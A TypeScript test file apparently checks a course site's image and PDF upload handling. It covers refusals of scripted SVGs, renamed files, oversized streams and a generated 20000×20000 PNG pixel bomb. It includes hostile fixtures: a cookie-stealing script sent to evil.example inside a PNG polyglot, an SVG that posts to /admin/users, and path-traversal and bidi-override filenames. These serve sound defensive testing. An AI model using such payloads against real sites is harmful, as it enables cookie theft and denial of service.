// Uploads with real files made here (issue 5 acceptance): sharp-made JPEG/PNG/WebP, a hand-written PDF,
// an SVG with a script, a PNG renamed .pdf, a PDF renamed .png, a 6 MB image, a 51 MB PDF stream that
// must be refused before it is read to the end, a 20000×20000 pixel bomb, polyglots. Every refusal:
// the SPEC message, a 4xx status, and nothing left in storage (the upload folders are listed).
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import zlib from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { isAppError } from "~/lib/errors.ts";
import { createLocalStorage, setStorage } from "~/lib/storage.server.ts";
import {
  cleanFileName,
  deleteStoredDocument,
  deleteStoredImage,
  DOCUMENT_MAX_BYTES,
  handleDocumentUpload,
  handleImageUpload,
  IMAGE_MAX_BYTES,
  imageSrcSet,
  isDocumentKey,
  isUploadedImageUrl,
  MAX_INPUT_PIXELS,
  storedDocumentSize,
  storedImageKey,
  UploadError,
  type ImageKind,
} from "~/lib/uploads.server.ts";
import { tAr, tEn } from "../setup/i18n.ts";

const root = fs.mkdtempSync(path.join(os.tmpdir(), "uploads-test-"));
const uploads = path.join(root, "uploads");

beforeAll(() => setStorage(createLocalStorage(uploads)));
afterAll(() => {
  setStorage(undefined);
  fs.rmSync(root, { recursive: true, force: true });
});
beforeEach(() => fs.rmSync(uploads, { recursive: true, force: true }));

/** Every file under DATA_DIR/uploads (public, private and metadata), relative. */
function stored(): string[] {
  if (!fs.existsSync(uploads)) return [];
  return (fs.readdirSync(uploads, { recursive: true, withFileTypes: true }) as fs.Dirent[])
    .filter((d) => d.isFile())
    .map((d) => path.relative(uploads, path.join(d.parentPath, d.name)))
    .sort();
}

// ---------------------------------------------------------------------------------------------------
// Files

const BOUNDARY = "----course-academy-test-boundary";

function multipart(parts: { field: string; filename?: string; type?: string; data: Buffer | string }[]): Uint8Array<ArrayBuffer> {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.field}"${p.filename !== undefined ? `; filename="${p.filename}"` : ""}`;
    chunks.push(Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ""}\r\n`));
    chunks.push(Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data));
    chunks.push(Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return new Uint8Array(Buffer.concat(chunks));
}

function fileRequest(data: Buffer, filename: string, type: string, url = "http://localhost/admin/uploads/image"): Request {
  const body = multipart([{ field: "file", filename, type, data }]);
  return new Request(url, {
    method: "POST",
    headers: { "content-type": `multipart/form-data; boundary=${BOUNDARY}`, "content-length": String(body.length) },
    body,
  });
}

/** A request whose body is produced on demand, counting what the server pulls. */
function streamedRequest(opts: { filename: string; type: string; size: number; start: Buffer; contentLength?: boolean }) {
  const head = Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${opts.filename}"\r\nContent-Type: ${opts.type}\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${BOUNDARY}--\r\n`);
  const total = head.length + opts.size + tail.length;
  const CHUNK = 256 * 1024;
  const stats = { pulled: 0, cancelled: false, total };
  let stage = 0;
  let sent = 0;
  const body = new ReadableStream<Uint8Array>(
    {
      pull(controller) {
        let chunk: Buffer;
        if (stage === 0) {
          chunk = head;
          stage = 1;
        } else if (stage === 1) {
          const n = Math.min(CHUNK, opts.size - sent);
          chunk = Buffer.alloc(n, 0x20);
          if (sent === 0) opts.start.copy(chunk);
          sent += n;
          if (sent >= opts.size) stage = 2;
        } else if (stage === 2) {
          chunk = tail;
          stage = 3;
        } else {
          controller.close();
          return;
        }
        stats.pulled += chunk.length;
        controller.enqueue(new Uint8Array(chunk));
      },
      cancel() {
        stats.cancelled = true;
      },
    },
    { highWaterMark: 0 },
  );
  const headers: Record<string, string> = { "content-type": `multipart/form-data; boundary=${BOUNDARY}` };
  if (opts.contentLength) headers["content-length"] = String(total);
  const request = new Request("http://localhost/admin/uploads/document", { method: "POST", headers, body, duplex: "half" } as RequestInit);
  return { request, stats };
}

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 120, b: 110 } } });

const jpeg = () =>
  solid(1200, 900)
    .jpeg({ quality: 90 })
    .withExif({ IFD0: { Copyright: "SECRET-EXIF-MARKER", ImageDescription: "Taken at home, 30.0444N 31.2357E" } })
    .toBuffer();
const png = () => solid(640, 480).png().toBuffer();
const webp = () => solid(300, 900).webp().toBuffer();
const gif = () => solid(100, 100).gif().toBuffer();

/** A minimal valid one-page PDF, written by hand with a correct cross-reference table. */
function minimalPdf(extra = ""): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
  ];
  let out = "%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n";
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  out += extra;
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

/** A real PNG of 20000×20000 one-bit pixels: ~50 KB on disk, 400 megapixels once decoded. */
function pixelBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const size = 20000;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc(size * (1 + size / 8)); // each row: filter byte + 2500 bytes, all zero
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", zlib.deflateSync(raw, { level: 9 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" onload="alert(1)"><script>fetch("/admin/users",{method:"POST"})</script><rect width="800" height="600"/></svg>';

async function refusal(promise: Promise<unknown>): Promise<UploadError> {
  const err = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err, "the upload should have been refused").toBeInstanceOf(UploadError);
  expect(isAppError(err)).toBe(true);
  return err as UploadError;
}

async function expectRefused(promise: Promise<unknown>, message: string, status: number) {
  const err = await refusal(promise);
  expect(tEn(err.messageKey)).toBe(message);
  expect(tAr(err.messageKey)).not.toBe(message);
  expect(tAr(err.messageKey)).toMatch(/[\u0600-\u06ff]/);
  expect(err.status).toBe(status);
  expect(stored()).toEqual([]);
}

// ---------------------------------------------------------------------------------------------------

describe("image uploads", () => {
  it.each([
    ["JPEG", jpeg, "photo.jpg", "image/jpeg"],
    ["PNG", png, "cover.png", "image/png"],
    ["WebP", webp, "tall.webp", "image/webp"],
  ] as const)("re-encodes a %s thumbnail to 800×600 WebP plus a 400-wide variant", async (_label, make, name, type) => {
    const result = await handleImageUpload(fileRequest(await make(), name, type), "thumbnail");
    expect(result.key).toMatch(/^images\/\d{4}\/[a-f0-9]{32}\.webp$/);
    expect(result.url).toBe(`/media/${result.key}`);
    expect([result.width, result.height]).toEqual([800, 600]);
    const variantKey = result.key.replace(/\.webp$/, "-400.webp");
    expect(result.srcset).toBe(`/media/${variantKey} 400w, ${result.url} 800w`);
    expect(stored()).toEqual([`meta/public/${result.key}.json`, `meta/public/${variantKey}.json`, `public/${result.key}`, `public/${variantKey}`].sort());

    const main = await sharp(path.join(uploads, "public", result.key)).metadata();
    expect([main.format, main.width, main.height]).toEqual(["webp", 800, 600]);
    const variant = await sharp(path.join(uploads, "public", variantKey)).metadata();
    expect([variant.format, variant.width, variant.height]).toEqual(["webp", 400, 300]);
    const meta = JSON.parse(fs.readFileSync(path.join(uploads, "meta/public", `${result.key}.json`), "utf8")) as Record<string, unknown>;
    expect(meta).toMatchObject({ contentType: "image/webp", originalName: name });
  });

  it("makes a 400×400 photo without a variant", async () => {
    const result = await handleImageUpload(fileRequest(await jpeg(), "me.jpg", "image/jpeg"), "photo");
    expect(result.key).toMatch(/^photos\/\d{4}\/[a-f0-9]{32}\.webp$/);
    expect([result.width, result.height, result.srcset]).toEqual([400, 400, undefined]);
    const out = await sharp(path.join(uploads, "public", result.key)).metadata();
    expect([out.format, out.width, out.height]).toEqual(["webp", 400, 400]);
    expect(stored()).toEqual([`meta/public/${result.key}.json`, `public/${result.key}`]);
  });

  it("strips EXIF and every other metadata", async () => {
    const input = await jpeg();
    expect(input.includes("SECRET-EXIF-MARKER")).toBe(true);
    expect((await sharp(input).metadata()).exif).toBeDefined();
    const result = await handleImageUpload(fileRequest(input, "exif.jpg", "image/jpeg"), "thumbnail");
    for (const key of [result.key, result.key.replace(/\.webp$/, "-400.webp")]) {
      const bytes = fs.readFileSync(path.join(uploads, "public", key));
      const meta = await sharp(bytes).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      expect(bytes.includes("SECRET-EXIF-MARKER")).toBe(false);
      expect(bytes.includes("30.0444N")).toBe(false);
    }
  });

  it("decides by content, not by name or browser type: a PNG named .pdf with a PDF type is still an image", async () => {
    const result = await handleImageUpload(fileRequest(await png(), "notes.pdf", "application/pdf"), "thumbnail");
    expect(result.width).toBe(800);
  });

  it.each([
    ["thumbnail", "Please select an image file"],
    ["photo", "File must be an image"],
  ] as const)("refuses a PDF renamed .png as a %s: '%s'", async (kind, message) => {
    await expectRefused(handleImageUpload(fileRequest(minimalPdf(), "photo.png", "image/png"), kind), message, 415);
  });

  it.each([
    ["thumbnail", "Please select an image file"],
    ["photo", "File must be an image"],
  ] as const)("refuses an SVG with a script as a %s: '%s'", async (kind, message) => {
    await expectRefused(handleImageUpload(fileRequest(Buffer.from(SVG_WITH_SCRIPT), "logo.svg", "image/svg+xml"), kind), message, 415);
    const xml = Buffer.from(`<?xml version="1.0"?>${SVG_WITH_SCRIPT}`);
    await expectRefused(handleImageUpload(fileRequest(xml, "logo.png", "image/png"), kind), message, 415);
  });

  it.each(["thumbnail", "photo"] as const)("refuses a GIF (an image, but not an allowed format) as a %s", async (kind) => {
    await expectRefused(
      handleImageUpload(fileRequest(await gif(), "anim.gif", "image/gif"), kind),
      "Only JPEG, PNG, and WebP images are allowed",
      415,
    );
  });

  it("refuses a file with a PNG signature that does not decode", async () => {
    const broken = Buffer.concat([(await png()).subarray(0, 60), Buffer.alloc(5000, 0x41)]);
    await expectRefused(handleImageUpload(fileRequest(broken, "broken.png", "image/png"), "thumbnail"), "Please select an image file", 415);
  });

  it.each([
    ["thumbnail", "Image size must be less than 5MB"],
    ["photo", "File size must be less than 5MB"],
  ] as const)("refuses a 6 MB image as a %s: '%s'", async (kind, message) => {
    const big = await sharp({ create: { width: 1450, height: 1450, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 60 } } })
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(big.length).toBeGreaterThan(6_000_000);
    // Declared up front …
    await expectRefused(handleImageUpload(fileRequest(big, "big.png", "image/png"), kind), message, 413);
    // … and found while streaming when the declared length is missing.
    const { request, stats } = streamedRequest({ filename: "big.png", type: "image/png", size: big.length, start: big });
    await expectRefused(handleImageUpload(request, kind), message, 413);
    expect(stats.cancelled).toBe(true);
    expect(stats.pulled).toBeLessThan(stats.total);
  });

  it("accepts an image of exactly 5 242 880 bytes (the limit is inclusive)", async () => {
    const base = await png();
    // PNG decoders ignore bytes after IEND: pad a real PNG to the limit.
    const exact = Buffer.concat([base, Buffer.alloc(IMAGE_MAX_BYTES - base.length)]);
    expect(exact.length).toBe(IMAGE_MAX_BYTES);
    const result = await handleImageUpload(fileRequest(exact, "exact.png", "image/png"), "photo");
    expect(result.width).toBe(400);
  });

  it("refuses a 20000×20000 pixel bomb without decoding it: 'Image dimensions are too large'", async () => {
    const bomb = pixelBomb();
    expect(bomb.length).toBeLessThan(IMAGE_MAX_BYTES);
    const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
    expect(meta.width! * meta.height!).toBeGreaterThan(MAX_INPUT_PIXELS);
    const started = Date.now();
    await expectRefused(handleImageUpload(fileRequest(bomb, "bomb.png", "image/png"), "thumbnail"), "Image dimensions are too large", 413);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(tAr("uploads.errors.dimensionsTooLarge")).toBe("أبعاد الصورة كبيرة جدًا");
  });

  it("neutralises an image polyglot: a PNG carrying HTML and a script is re-encoded without them", async () => {
    const payload = '<html><script>document.location="https://evil.example/?c="+document.cookie</script></html>';
    const polyglot = Buffer.concat([await png(), Buffer.from(payload)]);
    const result = await handleImageUpload(fileRequest(polyglot, "cover.html", "text/html"), "thumbnail");
    for (const file of stored().filter((f) => f.startsWith("public/"))) {
      const bytes = fs.readFileSync(path.join(uploads, file));
      expect(bytes.includes("<script")).toBe(false);
      expect(bytes.includes("evil.example")).toBe(false);
      expect(bytes.subarray(8, 12).toString("latin1")).toBe("WEBP");
    }
    expect(result.url.endsWith(".webp")).toBe(true);
  });

  it("refuses HTML that carries a PNG further in (the start decides)", async () => {
    const polyglot = Buffer.concat([Buffer.from("<!doctype html><script>alert(1)</script>"), await png()]);
    await expectRefused(handleImageUpload(fileRequest(polyglot, "x.png", "image/png"), "photo"), "File must be an image", 415);
  });

  it("answers 'No file provided' for a form without a file, an empty file, or a body that is not multipart", async () => {
    const noFile = multipart([{ field: "kind", data: "thumbnail" }]);
    await expectRefused(
      handleImageUpload(new Request("http://localhost/x", { method: "POST", headers: { "content-type": `multipart/form-data; boundary=${BOUNDARY}` }, body: noFile }), "thumbnail"),
      "No file provided",
      400,
    );
    await expectRefused(handleImageUpload(fileRequest(Buffer.alloc(0), "", "application/octet-stream"), "photo"), "No file provided", 400);
    await expectRefused(
      handleImageUpload(
        new Request("http://localhost/x", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "file=x" }),
        "photo",
      ),
      "No file provided",
      400,
    );
    // A multipart body cut short: the upload was interrupted.
    const truncated = multipart([{ field: "file", filename: "a.png", type: "image/png", data: await png() }]).subarray(0, 500);
    await expectRefused(
      handleImageUpload(new Request("http://localhost/x", { method: "POST", headers: { "content-type": `multipart/form-data; boundary=${BOUNDARY}` }, body: truncated }), "photo"),
      "The upload was interrupted. Please try again.",
      400,
    );
  });

  it("keeps only the first file of a request", async () => {
    const body = multipart([
      { field: "file", filename: "a.png", type: "image/png", data: await png() },
      { field: "file", filename: "b.png", type: "image/png", data: await png() },
    ]);
    const result = await handleImageUpload(
      new Request("http://localhost/x", { method: "POST", headers: { "content-type": `multipart/form-data; boundary=${BOUNDARY}` }, body }),
      "photo",
    );
    expect(stored()).toEqual([`meta/public/${result.key}.json`, `public/${result.key}`]);
  });
});

describe("document uploads", () => {
  it("stores a hand-written PDF privately under a generated key, keeping the original name as metadata", async () => {
    const pdf = minimalPdf();
    const result = await handleDocumentUpload(fileRequest(pdf, "دليل الدورة.pdf", "application/pdf", "http://localhost/admin/uploads/document"));
    expect(result).toEqual({ key: expect.stringMatching(/^documents\/[a-f0-9]{32}\.pdf$/), fileName: "دليل الدورة.pdf", fileType: "PDF", size: pdf.length });
    expect(isDocumentKey(result.key)).toBe(true);
    expect(stored()).toEqual([`meta/private/${result.key}.json`, `private/${result.key}`]);
    expect(fs.readFileSync(path.join(uploads, "private", result.key)).equals(pdf)).toBe(true);
    expect(stored().some((f) => f.startsWith("public/"))).toBe(false);
    const meta = JSON.parse(fs.readFileSync(path.join(uploads, "meta/private", `${result.key}.json`), "utf8")) as Record<string, unknown>;
    expect(meta).toMatchObject({ contentType: "application/pdf", originalName: "دليل الدورة.pdf" });
    expect(await storedDocumentSize(result.key)).toBe(pdf.length);
  });

  it("decides by content: a PDF sent as image/png named .png is a PDF (named .pdf)", async () => {
    const result = await handleDocumentUpload(fileRequest(minimalPdf(), "scan.png", "image/png"));
    expect(result.fileName).toBe("scan.pdf");
  });

  it("cleans the file name: no path, no control or bidi characters", async () => {
    const result = await handleDocumentUpload(fileRequest(minimalPdf(), "../../evil\u202ename.pdf", "application/pdf"));
    expect(result.fileName).toBe("evilname.pdf");
    expect(cleanFileName("C:\\Users\\me\\a\u0007b\u0000.pdf", "document.pdf")).toBe("ab.pdf");
    expect(cleanFileName("  ..  ", "document.pdf")).toBe("document.pdf");
    expect(cleanFileName("x".repeat(300), "d.pdf")).toHaveLength(200);
  });

  it("refuses a PNG renamed .pdf: 'Only PDF files are allowed.'", async () => {
    await expectRefused(handleDocumentUpload(fileRequest(await png(), "slides.pdf", "application/pdf")), "Only PDF files are allowed.", 415);
  });

  it("refuses an SVG, HTML and an empty 'PDF'", async () => {
    await expectRefused(handleDocumentUpload(fileRequest(Buffer.from(SVG_WITH_SCRIPT), "a.pdf", "application/pdf")), "Only PDF files are allowed.", 415);
    await expectRefused(
      handleDocumentUpload(fileRequest(Buffer.from("<html>%PDF-1.4</html>"), "b.pdf", "application/pdf")),
      "Only PDF files are allowed.",
      415,
    );
    await expectRefused(handleDocumentUpload(fileRequest(Buffer.alloc(0), "c.pdf", "application/pdf")), "No file provided", 400);
  });

  it("refuses a PNG renamed .pdf early and reads the rest without keeping it", async () => {
    const start = await png();
    const { request, stats } = streamedRequest({ filename: "big.pdf", type: "application/pdf", size: 8 * 1024 * 1024, start });
    await expectRefused(handleDocumentUpload(request), "Only PDF files are allowed.", 415);
    expect(stats.cancelled).toBe(false);
  });

  it("refuses a 51 MB PDF stream before it is read to the end", async () => {
    const size = 51 * 1024 * 1024;
    const { request, stats } = streamedRequest({ filename: "huge.pdf", type: "application/pdf", size, start: minimalPdf() });
    await expectRefused(handleDocumentUpload(request), "File size must be less than 50MB", 413);
    expect(stats.cancelled).toBe(true);
    expect(stats.pulled).toBeLessThan(stats.total);
    // Stopped right after the limit (a few chunks of read-ahead at most).
    expect(stats.pulled).toBeLessThan(DOCUMENT_MAX_BYTES + 2 * 1024 * 1024);
  });

  it("refuses a 51 MB PDF from its Content-Length before reading any of it", async () => {
    const size = 51 * 1024 * 1024;
    const { request, stats } = streamedRequest({ filename: "huge.pdf", type: "application/pdf", size, start: minimalPdf(), contentLength: true });
    await expectRefused(handleDocumentUpload(request), "File size must be less than 50MB", 413);
    expect(stats.pulled).toBeLessThan(1024 * 1024);
  });

  it("accepts a PDF polyglot carrying HTML only as a private PDF (never served from a public path)", async () => {
    const polyglot = minimalPdf("% <html><script>alert(1)</script></html>\n");
    const result = await handleDocumentUpload(fileRequest(polyglot, "poly.pdf", "application/pdf"));
    expect(stored()).toEqual([`meta/private/${result.key}.json`, `private/${result.key}`]);
  });

  it("deletes a stored document by key, ignoring keys it did not make", async () => {
    const result = await handleDocumentUpload(fileRequest(minimalPdf(), "a.pdf", "application/pdf"));
    await deleteStoredDocument("../../db/secret");
    await deleteStoredDocument("images/2030/x.webp");
    await deleteStoredDocument(null);
    expect(stored()).toHaveLength(2);
    await deleteStoredDocument(result.key);
    expect(stored()).toEqual([]);
    expect(await storedDocumentSize(result.key)).toBeNull();
  });
});

describe("stored images", () => {
  it("deletes an image and its variant; ignores URLs that are not ours; deletes demo images too", async () => {
    const thumb = await handleImageUpload(fileRequest(await png(), "t.png", "image/png"), "thumbnail");
    const photo = await handleImageUpload(fileRequest(await png(), "p.png", "image/png"), "photo");
    fs.mkdirSync(path.join(uploads, "public/demo"), { recursive: true });
    fs.writeFileSync(path.join(uploads, "public/demo/web-basics.webp"), "demo");
    expect(stored()).toHaveLength(7);

    for (const foreign of ["https://evil.example/media/images/2030/x.webp", "/images/course-default.webp", "/media/../../db", "", null, undefined]) {
      await deleteStoredImage(foreign);
    }
    expect(stored()).toHaveLength(7);

    await deleteStoredImage(thumb.url);
    expect(stored().filter((f) => f.includes(thumb.key.replace(/\.webp$/, "")))).toEqual([]);
    await deleteStoredImage(photo.url);
    await deleteStoredImage("/media/demo/web-basics.webp");
    expect(stored()).toEqual([]);
  });

  it("gives a srcset only to thumbnails that have the 400-wide variant", async () => {
    const thumb = await handleImageUpload(fileRequest(await png(), "t.png", "image/png"), "thumbnail");
    const photo = await handleImageUpload(fileRequest(await png(), "p.png", "image/png"), "photo");
    expect(imageSrcSet(thumb.url)).toBe(thumb.srcset);
    expect(imageSrcSet(photo.url)).toBeUndefined();
    expect(imageSrcSet("/media/demo/web-basics.webp")).toBeUndefined();
    expect(imageSrcSet("/images/course-default.webp")).toBeUndefined();
    expect(imageSrcSet(null)).toBeUndefined();
  });

  it("tells uploaded image URLs of each kind from anything else", async () => {
    const thumb = await handleImageUpload(fileRequest(await png(), "t.png", "image/png"), "thumbnail");
    const photo = await handleImageUpload(fileRequest(await png(), "p.png", "image/png"), "photo");
    const cases: [unknown, ImageKind, boolean][] = [
      [thumb.url, "thumbnail", true],
      [thumb.url, "photo", false],
      [photo.url, "photo", true],
      [photo.url, "thumbnail", false],
      [thumb.url.replace(/\.webp$/, "-400.webp"), "thumbnail", false],
      ["/media/demo/web-basics.webp", "thumbnail", false],
      ["https://evil.example/x.webp", "photo", false],
      [42, "photo", false],
    ];
    for (const [url, kind, expected] of cases) expect(isUploadedImageUrl(url, kind), `${String(url)} as ${kind}`).toBe(expected);
    expect(storedImageKey("/media/demo/web-basics.webp")).toBe("demo/web-basics.webp");
    expect(storedImageKey("/images/course-default.webp")).toBeNull();
  });
});
